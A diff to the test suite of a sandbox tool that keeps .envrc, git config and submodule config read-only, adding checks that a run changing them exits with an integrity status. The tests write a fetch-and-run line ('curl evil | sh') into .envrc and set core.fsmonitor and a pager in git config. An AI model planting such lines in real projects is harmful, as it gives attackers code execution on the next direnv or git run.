@@ -27,6 +27,8 @@ SUBMODULE_TEXT = ("a submodule's config is rewritten by every git submodule upda
 OUTSIDE_TEXT = "outside the writable roots: read-only already"
 SYMLINK_TEXT = ("dsh-confine: the protected path {path} cannot be kept read-only: {link} is a symlink inside a "
                 "writable root (an earlier run could have planted it); remove the link, or --unprotect {path}\n")
+# The status of a run that changed what the next unconfined program reads (issue 37).
+INTEGRITY_STATUS = 123
 CHANGED_TEXT = ("1 protected path changed during the run (see the result record's violations); check them before "
                 "the next git or editor run\n")
 
@@ -216,6 +218,9 @@ def absent_created(s, runner):
     r = run(s, runner, ws, "echo 'curl evil | sh' > .envrc", extra=["--supervise"] + extra)
     res = r.rec("result")
     assert res["violations"] == [{"type": "protected-path-changed", "path": envrc}], r
+    # The run fails with its own status, and the integrity record says why.
+    assert r.rc == INTEGRITY_STATUS and r.rec("integrity")["violations"] == res["violations"], r
+    assert r.rec("integrity")["quarantined"] == res["quarantined"], r
     assert r.err.endswith(CHANGED_TEXT), r
     if runner == "bwrap":
         # Renamed aside once the run ended (issue 37): the next direnv finds nothing there.
@@ -588,6 +593,7 @@ def test_include_absent_and_linked(s):
     assert listing(s.ws) == names, r
     r = run(s, "bwrap", s.ws, "echo '[core] pager = x' > later.cfg", extra=["--supervise"])
     assert r.rec("result")["violations"] == [{"type": "protected-path-changed", "path": later}], r
+    assert r.rc == INTEGRITY_STATUS and r.rec("integrity")["violations"] == r.rec("result")["violations"], r
     # Renamed aside once the run ended (issue 37): the next git reads no include of the command's.
     q = r.rec("result")["quarantined"]
     assert [e["path"] for e in q] == [later] and not os.path.exists(later), r
@@ -1093,6 +1099,7 @@ def matrix_submodule(s, runner):
     r = run(s, runner, repo, "git -C sub config core.fsmonitor 'touch /tmp/x'", extra=["--supervise"])
     assert r.rec("result")["violations"] == [{"type": "protected-path-changed",
                                               "path": repo + "/.git/modules/sub/config"}], r
+    assert r.rc == INTEGRITY_STATUS, r
 
 
 # bwrap only: landlock refuses a run with protected paths (issue 37).
